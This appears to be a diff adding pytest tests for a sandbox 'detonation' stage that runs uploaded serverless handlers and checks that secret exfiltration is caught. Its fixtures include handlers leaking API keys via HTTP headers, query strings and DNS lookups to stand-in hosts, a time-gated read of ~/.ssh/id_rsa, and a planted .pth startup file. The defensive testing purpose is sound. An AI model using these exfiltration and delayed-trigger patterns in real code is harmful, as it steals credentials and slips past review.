@@ -1,0 +1,158 @@
+"""The detonation stage on real uploads: the sandbox, the recording network, the canaries.
+
+Everything is real (bubblewrap, seccomp, a network namespace of its own, the sink); nothing
+leaves that namespace. Needs root, as the platform's detonation does.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from sless.validation.detonation import Detonation, detonate, unavailable
+from sless.validation.report import StageResult, Verdict
+
+pytestmark = pytest.mark.skipif(unavailable() is not None, reason=str(unavailable()))
+
+ADVERSARIAL = Path(__file__).parents[2] / "validation" / "adversarial"
+
+
+def _code(tmp_path: Path, files: dict[str, str]) -> Path:
+    os.chmod(tmp_path, 0o755)
+    for name, text in files.items():
+        (tmp_path / name).write_text(text)
+        os.chmod(tmp_path / name, 0o644)
+    return tmp_path
+
+
+async def _run(directory: Path, runtime: str, plan: Detonation | None = None) -> StageResult:
+    return await detonate(directory, runtime, "handler.handle", plan or Detonation())
+
+
+def _rules(stage: StageResult) -> set[str]:
+    return {f.rule for f in stage.findings}
+
+
+async def test_a_picked_secret_in_a_header_is_rejected_with_the_bytes(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.py": (
+        "import os, urllib.request\n"
+        "def handle(event, context):\n"
+        "    k = os.environ['STRIPE_API_KEY']\n"
+        "    urllib.request.urlopen(urllib.request.Request(\n"
+        "        'https://stats.example.net/p', headers={'x-trace': k}, method='HEAD'),\n"
+        "        timeout=2)\n"
+    )})  # fmt: skip
+    stage = await _run(code, "python3.11")
+    assert stage.verdict is Verdict.REJECT
+    leak = next(f for f in stage.findings if f.rule == "detonation-canary-exfiltration")
+    assert "env:STRIPE_API_KEY" in leak.message
+    assert leak.evidence is not None
+    assert "x-trace" in leak.evidence.lower()
+    assert "stats.example.net" in leak.evidence
+
+
+async def test_a_declared_secret_to_its_declared_host_is_allowed(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.py": (
+        "import os, urllib.request\n"
+        "def handle(event, context):\n"
+        "    req = urllib.request.Request('https://api.sendgrid.com/v3/mail/send', data=b'{}',\n"
+        "        headers={'Authorization': 'Bearer ' + os.environ['SENDGRID_API_KEY']})\n"
+        "    urllib.request.urlopen(req, timeout=2)\n"
+    )})  # fmt: skip
+    plan = Detonation(egress=("api.sendgrid.com:443",), secrets=("SENDGRID_API_KEY",))
+    stage = await _run(code, "python3.11", plan)
+    assert stage.status == "ok"
+    assert stage.findings == []
+    assert stage.verdict is Verdict.ALLOW
+    # the same code without the declaration: its own secret to an undeclared host
+    undeclared = await _run(code, "python3.11", Detonation(secrets=("SENDGRID_API_KEY",)))
+    assert undeclared.verdict is Verdict.REJECT
+
+
+async def test_a_declared_host_does_not_launder_another_secret(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.py": (
+        "import os, urllib.request\n"
+        "def handle(event, context):\n"
+        "    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+        "    urllib.request.urlopen('https://api.sendgrid.com/x?k=' + key, timeout=2)\n"
+    )})  # fmt: skip
+    plan = Detonation(egress=("api.sendgrid.com:443",), secrets=("SENDGRID_API_KEY",))
+    stage = await _run(code, "python3.11", plan)
+    assert stage.verdict is Verdict.REJECT
+    assert "env:AWS_SECRET_ACCESS_KEY" in stage.findings[0].message
+
+
+async def test_dns_name_exfiltration_in_node_is_rejected(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.js": (
+        "const dns = require('dns');\n"
+        "exports.handle = async () => {\n"
+        "  const h = Buffer.from(process.env.GITHUB_TOKEN).toString('hex');\n"
+        "  await new Promise((r) => dns.lookup(h.slice(0, 50) + '.x.example.org', () => r()));\n"
+        "};\n"
+    )})  # fmt: skip
+    stage = await _run(code, "nodejs20")
+    assert stage.verdict is Verdict.REJECT
+    assert any("DNS" in f.message and "GITHUB_TOKEN" in f.message for f in stage.findings)
+
+
+async def test_behaviour_gated_a_year_ahead_is_seen(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.py": (
+        "import datetime, os\n"
+        "LOADED = datetime.date.today()\n"
+        "def handle(event, context):\n"
+        "    if datetime.datetime.now().date() - LOADED > datetime.timedelta(days=300):\n"
+        "        open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    )})  # fmt: skip
+    stage = await _run(code, "python3.11")
+    assert "detonation-credential-read" in _rules(stage)
+    assert stage.verdict is Verdict.REVIEW
+
+
+async def test_processes_and_startup_files_are_held_with_evidence(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.js": (
+        "const cp = require('child_process');\n"
+        "const fs = require('fs');\n"
+        "exports.handle = async () => {\n"
+        "  try { fs.writeFileSync('/code/evil.pth', 'import os'); } catch (e) {}\n"
+        "  cp.spawn('/bin/true', [], { detached: true, stdio: 'ignore' }).unref();\n"
+        "};\n"
+    )})  # fmt: skip
+    stage = await _run(code, "nodejs20")
+    assert {"detonation-process", "detonation-startup-file"} <= _rules(stage)
+    assert stage.verdict is Verdict.REVIEW
+    spawn = next(f for f in stage.findings if f.rule == "detonation-process")
+    assert spawn.evidence is not None
+    assert "/bin/true" in spawn.evidence
+
+
+async def test_a_sleeping_handler_stays_within_the_budget(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.py": (
+        "import time\n"
+        "def handle(event, context):\n"
+        "    time.sleep(30)\n"
+    )})  # fmt: skip
+    stage = await _run(code, "python3.11", Detonation(budget_s=1.0))
+    assert stage.status == "ok"
+    assert stage.verdict is Verdict.ALLOW, stage.findings
+
+
+async def test_code_that_exits_at_import_is_held(tmp_path: Path) -> None:
+    code = _code(tmp_path, {"handler.py": "import os\nos._exit(0)\ndef handle(e, c):\n    pass\n"})
+    stage = await _run(code, "python3.11")
+    assert "detonation-incomplete" in _rules(stage)
+
+
+@pytest.mark.parametrize(
+    "sample",
+    sorted(p.name for p in (ADVERSARIAL / "benign").iterdir()),
+)
+async def test_adversarial_benign_samples_are_allowed(sample: str) -> None:
+    directory = ADVERSARIAL / "benign" / sample
+    meta = json.loads((directory / "meta.json").read_text())
+    runtime = {"python": "python3.11", "node": "nodejs20"}[meta["runtime"]]
+    plan = Detonation(egress=tuple(meta.get("egress", ())), secrets=tuple(meta.get("secrets", ())))
+    stage = await _run(directory, runtime, plan)
+    assert stage.verdict is Verdict.ALLOW, stage.findings
